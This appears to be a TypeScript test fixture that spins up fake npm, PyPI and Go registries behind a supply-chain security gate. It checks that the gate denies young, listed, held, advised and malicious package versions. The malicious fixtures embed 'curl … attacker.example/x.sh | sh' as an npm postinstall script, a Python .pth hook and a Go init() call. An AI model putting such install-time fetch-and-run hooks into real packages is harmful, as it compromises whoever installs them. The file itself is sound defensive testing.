import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, vi } from 'vitest'
import type { Policy } from '../../src/core/policy.ts'
import { startFakeGo } from '../fakes/go.ts'
import type { FakeModule } from '../fakes/go.ts'
import type { FakeVersion } from '../fakes/npm-package.ts'
import { startFakeNpm } from '../fakes/npm.ts'
import { startFakePypi } from '../fakes/pypi.ts'
import type { FakeProject } from '../fakes/pypi.ts'
import { buildFile } from '../fakes/python-archives.ts'
import type { FakeFile } from '../fakes/python-archives.ts'
import { fakeRunner, SANDBOX_POLICY } from '../fakes/runner.ts'
import type { FakeRunner } from '../fakes/runner.ts'
import { NPM_CLIENTS, PYTHON_CLIENTS } from '../harness/clients.ts'
import type { ClientName } from '../harness/clients.ts'
import { startGate } from '../harness/gate.ts'
import type { Gate, GateOptions } from '../harness/gate.ts'
import { KINDS, nameOf } from './kinds.ts'
import type { KindId, Registry } from './kinds.ts'

const DAY = 24 * 3_600_000
/** Old enough to be had, and young enough to be held for a run. */
const NEW = new Date(Date.now() - 3 * DAY)
/** Longer than the impatient gate waits, shorter than it waits for an upstream. */
const SLOW = 4_000
/** Younger than every checkpoint that the gate brings along. */
const YOUNG_RECORD = 89_999_990

export interface World {
  /** Enough patience for every first verdict. */
  gate: Gate
  /** Answers "being examined" at once. */
  impatient: Gate
  /** Runs packages in a sandbox that never comes to an end, and hardly waits for it. */
  running: Gate
  /** Value of GOSUMDB. */
  gosumdb: string
  recall(): Promise<void>
  close(): Promise<void>
}

/** Every kind of denial, in three registries behind one gate. Version 1.0.0 of a package is harmless, 1.1.0 is what is denied. */
export async function startWorld(): Promise<World> {
  const npm = await startFakeNpm(packages('npm', npmVersions).flat())
  const pypi = await startFakePypi(packages('pypi', (kind, name): FakeProject => ({ name, files: pypiFiles(kind, name) })))
  const go = await startFakeGo(packages('go', goModules).flat(), {
    treeSize: YOUNG_RECORD + 10,
    behaviour: ({ path }) => (path.includes('/is-down/') && !path.startsWith('/sumdb/') ? { drop: true }
      : path.includes('/examining-') && path.endsWith('.zip') ? { delay: SLOW } : null),
  })
  npm.behaviour.set('/is-down', { drop: true })
  pypi.behaviour.set('/simple/is-down/', { drop: true })
  for (const client of NPM_CLIENTS) npm.behaviour.set(npm.tarballPath(nameOf('examining', client), '1.1.0'), { delay: SLOW })
  for (const client of PYTHON_CLIENTS) {
    const name = nameOf('examining', client)
    pypi.behaviour.set(pypi.filePath(name, wheelOf(name, '1.1.0')), { delay: SLOW })
  }
  const options: GateOptions = {
    sources: { npm: { url: npm.url, sumdb: null }, pypi: { url: pypi.index, sumdb: null }, go: { url: go.url, sumdb: go.sumdb.name } },
    origins: [pypi.files.url], policy: POLICY,
  }
  const gate = await startGate(options)
  const impatient = await startGate({ ...options, limits: { patience: 50 } })
  const runner = fakeRunner({ budget: { anHour: 100, atOnce: REGISTRIES.length } })
  // Modules of Go run nothing by themselves: of those, a sample is run.
  const running = await startGate({ ...options, limits: { patience: 50 }, policy: { ...POLICY, sandbox: { ...SANDBOX_POLICY, sample: { share: 1, runs: 'hold' } } }, sandbox: runner })
  await Promise.all([prepare(gate), run(running, runner)])
  return {
    gate, impatient, running, gosumdb: go.gosumdb,
    recall: async () => { for (const registry of REGISTRIES) await order(gate, registry, { kind: 'recalled', action: 'recall', because: 'steals tokens after all' }) },
    async close() {
      for (const one of [gate, impatient, running, npm, pypi, go]) await one.close()
    },
  }
}

const REGISTRIES: readonly Registry[] = ['npm', 'pypi', 'go']
const clientsOf = (registry: Registry): readonly ClientName[] =>
  registry === 'go' ? ['go'] : registry === 'pypi' ? PYTHON_CLIENTS : NPM_CLIENTS
const anyOf = (registry: Registry): ClientName => clientsOf(registry)[0] as ClientName
const versionIn = (registry: Registry, version: string): string => (registry === 'go' ? `v${version}` : version)

const denyRules = (registry: Registry): Policy['deny'] => [
  { ecosystem: registry, name: nameOf('listed', anyOf(registry)), versions: [versionIn(registry, '1.1.0')], lifts: [], because: 'license not accepted', expires: null },
  { ecosystem: registry, name: nameOf('whole', anyOf(registry)), versions: [], lifts: [], because: 'license not accepted', expires: null },
]

const POLICY: Partial<Policy> = {
  minimumAge: { npm: DAY, pypi: DAY, go: DAY },
  deny: REGISTRIES.flatMap(denyRules),
  private: [
    { ecosystem: 'npm', pattern: '@acme/*', registry: null }, { ecosystem: 'pypi', pattern: 'acme-*', registry: null },
    { ecosystem: 'go', pattern: 'acme.example', paths: true, registry: null },
  ],
}

/** What a registry publishes: a package for each kind, or one for each kind and client. */
function packages<T>(registry: Registry, make: (kind: KindId, name: string) => T): T[] {
  const named = new Map(KINDS.flatMap(({ id }) => clientsOf(registry).map((client) => [nameOf(id, client), id] as const)))
  return [...named].map(([name, kind]) => make(kind, name))
}

const FETCHES = 'curl -s http://files.attacker.example/x.sh | sh'
const isBad = (kind: KindId): boolean => kind === 'malicious' || kind === 'judged'

function npmVersions(kind: KindId, name: string): FakeVersion[] {
  return [{ name, version: '1.0.0' }, {
    name, version: '1.1.0',
    ...(kind === 'young' ? { publishedAt: new Date() } : {}),
    ...(isBad(kind) ? { manifest: { scripts: { postinstall: FETCHES } } } : {}),
    ...(kind === 'running' ? { manifest: { scripts: { postinstall: 'node setup.js' } }, files: { 'setup.js': "console.log('thanks')\n" }, publishedAt: NEW } : {}),
    ...(kind === 'undetermined' ? { tarball: Buffer.from('not an archive') } : {}),
  }]
}

function pypiFiles(kind: KindId, name: string): FakeFile[] {
  const hook = `import os; os.system('${FETCHES}')\n`
  const denied: FakeFile = {
    version: '1.1.0',
    ...(kind === 'young' ? { uploadTime: new Date().toISOString() } : {}),
    ...(isBad(kind) ? { files: { [`${name.replaceAll('-', '_')}.py`]: '', 'start.pth': hook } } : {}),
    ...(kind === 'running' ? { uploadTime: NEW.toISOString(), files: { [`${name.replaceAll('-', '_')}.py`]: '', 'start.pth': 'import is_running\n' } } : {}),
  }
  const cut = (): FakeFile => ({ ...denied, bytes: buildFile(name, denied).bytes.subarray(0, 200) })
  return [{ version: '1.0.0' }, kind === 'undetermined' ? cut() : denied]
}

function goModules(kind: KindId, name: string): FakeModule[] {
  const hook = `package lib\n\nimport "os/exec"\n\nfunc init() { _ = exec.Command("sh", "-c", "${FETCHES}").Run() }\n`
  // A broken zip breaks the checksum database's promise, which is another matter; this is more than is followed.
  const calls = Array.from({ length: 20_100 }, (_, at) => `\t_ = exec.Command("tool", "${at}").Run()\n`).join('')
  const endless = `package lib\n\nimport "os/exec"\n\nfunc init() {\n${calls}}\n`
  const files = (version: string): Record<string, string> => ({ 'lib.go': `package lib\n\nconst Version = "${version}"\n` })
  const contents = isBad(kind) ? { 'lib.go': hook } : kind === 'undetermined' ? { 'lib.go': endless } : files('v1.1.0')
  return [
    { name, version: 'v1.0.0', files: files('v1.0.0') },
    { name, version: 'v1.1.0', files: contents, ...(kind === 'young' ? { record: YOUNG_RECORD } : {}) },
  ]
}

const wheelOf = (name: string, version: string): string => `${name.replaceAll('-', '_')}-${version}-py3-none-any.whl`

function order(gate: Gate, registry: Registry, { kind, action, because }: { kind: KindId; action: 'hold' | 'recall'; because: string }) {
  return gate.app.operator.order({
    ecosystem: registry, name: nameOf(kind, anyOf(registry)), version: versionIn(registry, '1.1.0'), digest: null, action, because, by: 'ann', expiresAt: null,
  })
}

/** The harmless version was run before, and the one after it is being run. */
async function run(gate: Gate, runner: FakeRunner): Promise<void> {
  const scan = async (version: string): Promise<void> => {
    for (const target of [`npm:is-running@${version}`, `pypi:is-running==${version}`, `go:mod.example/is-running@v${version}`]) await gate.app.operator.scan(target)
  }
  await scan('1.0.0')
  await vi.waitFor(async () => expect((await gate.app.sandbox.desk.list()).map(({ status }) => status)).toEqual(['completed', 'completed', 'completed']), { timeout: 50_000, interval: 50 })
  runner.stop()
  await scan('1.1.0')
  await vi.waitFor(() => expect(runner.begun).toHaveLength(2 * REGISTRIES.length), { timeout: 50_000, interval: 50 })
}

/** What people, feeds and earlier installs have left behind. */
async function prepare(gate: Gate): Promise<void> {
  for (const registry of REGISTRIES) await order(gate, registry, { kind: 'held', action: 'hold', because: 'looking into it' })
  for (const registry of REGISTRIES) {
    const name = nameOf('suspected', anyOf(registry))
    await gate.app.context.database.query.insertInto('suspicions').values({
      ecosystem: registry, name, kind: 'twin', version: versionIn(registry, '1.1.0'), says: 'is new and has the name of another, with which nothing connects it', holds: 1, alarm: null, at: 0,
    }).execute()
    gate.app.context.revisions.bump(registry, name)
  }
  const folder = await mkdtemp(join(tmpdir(), 'sluice-feed-'))
  await writeFile(join(folder, 'advisory.json'), JSON.stringify({
    id: 'MAL-2026-1', modified: '2026-01-01T00:00:00Z', summary: 'steals tokens',
    affected: [['npm', 'npm'], ['pypi', 'PyPI'], ['go', 'Go']].map(([registry, ecosystem]) => ({
      package: { ecosystem, name: nameOf('advised', anyOf(registry as Registry)) }, versions: ['1.1.0'],
    })),
  }))
  await gate.app.operator.importFeed(folder)
  await rm(folder, { recursive: true })
  const judged = {
    npm: `${gate.npm}is-judged/-/is-judged-1.1.0.tgz`, pypi: `${gate.origin}/pypi/files/is-judged/${wheelOf('is-judged', '1.1.0')}`,
    go: `${gate.go}/mod.example/is-judged/@v/v1.1.0.zip`,
  }
  for (const url of Object.values(judged)) {
    const { status } = await fetch(url)
    if (status !== 403) throw new Error(`${url} was to be found malicious, but was answered ${status}`)
  }
}
